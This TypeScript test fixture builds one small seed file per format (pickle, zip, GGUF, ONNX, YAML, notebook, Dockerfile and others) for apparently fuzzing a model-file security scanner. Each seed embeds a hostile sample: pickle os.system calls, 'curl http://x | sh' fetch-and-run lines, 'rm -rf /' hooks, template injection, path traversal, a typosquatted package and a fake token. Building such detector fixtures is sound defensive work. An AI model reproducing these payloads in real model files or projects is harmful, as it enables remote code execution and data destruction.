/** One well-formed file of each format, small, with something in it to find: what fuzzing starts from. */
import { deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { concat, u32, utf8 } from '#formats/test-files/bytes';
import { makeCheckpoint } from '#formats/test-files/checkpoint';
import { makeTflite, operator, operatorCode } from '#formats/test-files/flatbuffer';
import { makeGguf } from '#formats/test-files/gguf';
import { block, entry, initializer, makeOnnx, node } from '#formats/test-files/onnx';
import { packed } from '#formats/test-files/packed';
import { op, plain, reduce, stream } from '#formats/test-files/pickle';
import { makeSafetensors } from '#formats/test-files/safetensors';
import { makeTar } from '#formats/test-files/tar';
import { benignSavedModel, callAttribute, nodeDef, stringConst } from '#formats/test-files/tensorflow';
import { makeZip } from '#formats/test-files/zip';
import { longTailSamples } from './test-fuzz-long-tail.ts';

const attack = stream(plain({ a: [1, 'x', null] }), '0', reduce('posix', 'system', op.text('id')));
const template = "{% for m in messages %}{{ m['role'] ~ ''.__class__ }}{% endfor %}";
const graphNodes = [
  stringConst('p', '/etc/x'),
  nodeDef('ReadFile', 'r', ['p']),
  nodeDef('PartitionedCall', 'c', ['p'], callAttribute('f', '__inference__traced_save_1')),
];
const textGraph =
  'node { name: "p" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/x" } } } } node { name: "r" op: "ReadFile" input: "p" }';

export const fuzzSamples: readonly (readonly [name: string, bytes: Uint8Array])[] = [
  ['saved model', benignSavedModel(graphNodes)],
  ['text graph', utf8(textGraph)],
  ['checkpoint', makeCheckpoint({ a: {}, b: { offset: 24 } }, true)],
  ['tflite', makeTflite({ codes: [operatorCode(32, 'FlexReadFile')], operators: [operator(1, [0], [2])] })],
  [
    'tfjs',
    utf8(JSON.stringify({ modelTopology: { node: [{ name: 'p', op: 'PyFunc' }] }, weightsManifest: [{ paths: ['../x'], weights: [] }] })),
  ],
  ['pickle', attack],
  [
    'pickle of protocol 4',
    concat(op.proto(4), op.frame(30), op.shortText('os'), '\x94', op.shortText('system'), '\x94\x93\x94', op.shortText('id'), '\x85R.'),
  ],
  ['two pickles', concat(attack, attack)],
  [
    'zip',
    makeZip(
      [
        { name: 'a/data.pkl', data: attack, deflate: true, descriptor: true },
        { name: 'a/data/0', data: new Uint8Array(40) },
        { name: 'c', data: utf8('x'), zip64: true },
      ],
      { zip64: true },
    ),
  ],
  ['zip in zip', makeZip([{ name: 'x', data: makeZip([{ name: 'y', data: attack, deflate: true }]), deflate: true }])],
  ['safetensors', makeSafetensors({ a: [2, 3], b: [4] }, { note: 'rm -rf /' })],
  [
    'onnx',
    makeOnnx(
      [
        node('MatMul'),
        node('Evil', 'com.evil', block(5, block(1, 'g'), block(6, node('Relu')))),
        initializer('w', [4, 2], 32),
        initializer('e', [4], 0, { location: '../x' }),
      ],
      entry(14, 'k', 'v'),
    ),
  ],
  [
    'gguf',
    makeGguf({
      pairs: [
        ['general.architecture', 'llama'],
        ['tokenizer.ggml.tokens', ['a', 'b']],
        ['tokenizer.chat_template', template],
      ],
      tensors: [['t', [8, 2], 0, 0]],
      data: 64,
    }),
  ],
  ['npy', concat('\x93NUMPY\x01\x00', 118, 0, "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".padEnd(117), '\n', attack)],
  ['configuration', utf8(JSON.stringify({ tokenizer_class: 'X', chat_template: template, auto_map: { a: 'b' } }))],
  ['template', utf8(template)],
  [
    'configuration with everything',
    utf8(
      JSON.stringify({
        ...{ _target_: 'os.system', _args_: ['id'], vocab_file: '../x', weight_map: { a: '/x' }, token: 'hf_abcdefghijklmnopqrst' },
        ...{
          payload: Buffer.from(attack).toString('base64'),
          added_tokens_decoder: { 1: { content: '\u202e' } },
          hook: 'curl http://x | sh',
        },
      }),
    ),
  ],
  [
    'yaml',
    utf8(
      'a: &a [1, "x"]\nb: !!python/object/apply:os.system\n- id\nc: {_target_: evil.x, d: *a}\n? !k e\n: |\n  {{ x.__class__ }}\n---\nf: >-\n  g\n',
    ),
  ],
  ['model card', utf8('---\nlicense: mit\ntags:\n- a\nhook: rm -rf /\n---\n# Title\n\nWords.\n')],
  [
    'ggml',
    concat(
      'tjgg',
      u32(3),
      u32(1),
      u32(8),
      u32(256),
      u32(1),
      u32(1),
      u32(8),
      u32(2),
      u32(1),
      'a',
      u32(0),
      u32(1),
      u32(1),
      u32(0),
      u32(8),
      't',
      new Uint8Array(64),
    ),
  ],
  [
    'gguf of the other byte order',
    makeGguf({
      bigEndian: true,
      pairs: [
        ['a', template],
        ['b', ['x', 'y']],
      ],
      tensors: [['t', [8], 0, 0]],
      data: 32,
    }),
  ],
  ['gguf version 1', makeGguf({ version: 1, pairs: [['a', 'b']], tensors: [['t', [8], 0, 0]], data: 32 })],
  ['program with an archive', concat("MZqFpD='\n", new Uint8Array(80), makeZip([{ name: 'x', data: attack }]))],
  [
    'Keras configuration',
    utf8(
      '{"class_name":"Sequential","config":{"layers":[{"class_name":"Lambda","module":"os","config":{"function":["4wEAAAAAAAAAAAAAAA=="],"function_type":"lambda"}}]}}',
    ),
  ],
  [
    'python',
    utf8(
      '# coding: latin-1\nimport os as o\nclass A:\n  def f(self, x=1):\n    with open(f"a{x!r:>{2}}", "w") as g:\n      getattr(o, "sys" + "tem")("id")\n',
    ),
  ],
  [
    'torchscript',
    utf8(
      'class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    torch.save(x, "/x")\n    return ^Op(1)(x)\n',
    ),
  ],
  [
    'notebook',
    utf8(
      JSON.stringify({
        cells: [
          {
            cell_type: 'code',
            source: ['import os\n', '!curl http://x | sh\n', 'os.system("id")'],
            outputs: [{ data: { 'text/html': ['<script>fetch(1)</script>'] } }],
          },
        ],
        metadata: {},
        nbformat: 4,
      }),
    ),
  ],
  ['requirements', utf8('torch==1.12.0\nnumppy>=1.0\n--extra-index-url https://x/simple\ngit+https://x/y.git\n')],
  ['dockerfile', utf8('FROM python:3.11\nRUN curl https://x/y.sh | bash \\\n && pip install torch numpy\n')],
  [
    'tar',
    makeTar([
      { name: 'a', pax: { path: 'b', size: String(attack.length) }, data: attack },
      { name: 'l', type: '2', linkName: '../x' },
    ]),
  ],
  ['gzip of two members', concat(gzipSync(attack), gzipSync(utf8('words')))],
  ['zlib', new Uint8Array(deflateSync(attack))],
  ['Zstandard', new Uint8Array(zstdCompressSync(concat(attack, utf8('words '.repeat(40)))))],
  ['bzip2', packed.bzip2],
  ['xz', packed.xz],
  ['LZMA', packed.lzma],
  ['LZ4', packed.lz4],
  ['legacy LZ4', packed.lz4Legacy],
  ['7-Zip', packed.sevenZip],
  ['7-Zip without packing', packed.sevenZipCopy],
  ['7-Zip with BCJ2', packed.sevenZipBcj2],
  ['zip by bzip2', packed.zipBzip2],
  ['zip by LZMA', packed.zipLzma],
  [
    'skops',
    makeZip([{ name: 'schema.json', data: utf8('{"__class__":"system","__module__":"os","__loader__":"OperatorFuncNode","protocol":2}') }]),
  ],
  ...longTailSamples,
];
